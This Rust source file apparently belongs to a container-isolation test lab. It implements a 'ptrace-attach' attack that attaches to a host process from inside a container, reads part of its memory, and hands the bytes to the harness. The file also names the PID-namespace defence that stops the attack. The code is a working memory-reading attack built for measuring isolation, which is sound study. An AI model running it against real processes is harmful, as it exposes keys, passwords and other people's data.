//! ptrace-attach: read the memory of a process of the host.

use super::{Attack, Attempt, Measured, Need};
use crate::victim::ADDRESS;
use crate::{Host, Inside, Seen};
use nix::errno::Errno;
use nix::libc;
use nix::sys::ptrace;
use nix::sys::wait::{WaitPidFlag, waitpid};

/// The attempt.
pub const ATTEMPT: Attempt = Attempt {
    id: "ptrace-attach",
    stake: "Whatever a process of the host holds in memory: keys, passwords, other people's data.",
    story: "The attacker attaches to a process of the host as a debugger does, and reads a word from \
            its memory. ptrace(2) could as well write there, and so make the process do anything. It \
            asks for the process by number, and in a PID namespace of its own the container has no \
            numbers for the host's processes.",
    by_hand: &["gdb -p 1234    # a process of the host, as ps shows it there"],
    stopped_by: &["lab1-namespaces/pid-namespace"],
    after: &[],
    man: &["ptrace(2)", "pid_namespaces(7)"],
    letters: Measured { root: "E EBBBBBB", user: "E EBBBBBB", rootless: "E EBBBBBB" },
    needs: &[Need::FreshHost],
    decisive: &[libc::SYS_ptrace],
    attack: Attack::Inside(inside),
    witness,
};

/// How much of the memory is read, in bytes: more than the word in it.
const LENGTH: usize = 32;

fn inside(me: &mut Inside) -> Result<(), Errno> {
    let victim = me.victim()?;
    me.decisive(&format!("ptrace(PTRACE_ATTACH, {victim}), ptrace(PTRACE_PEEKDATA)"));
    ptrace::attach(victim)?;
    waitpid(victim, Some(WaitPidFlag::__WALL))?;
    let mut memory = Vec::new();
    for offset in (0..LENGTH).step_by(size_of::<libc::c_long>()) {
        memory.extend(ptrace::read(victim, (ADDRESS + offset) as ptrace::AddressType)?.to_ne_bytes());
    }
    // It goes on when its tracer ends.
    me.bring_out(&memory);
    Ok(())
}

fn witness(host: &Host) -> Seen {
    if host.heard_secret("victim-memory") {
        return Seen::Effect("the attacker knows what a process of the host has in its memory".into());
    }
    Seen::Nothing
}
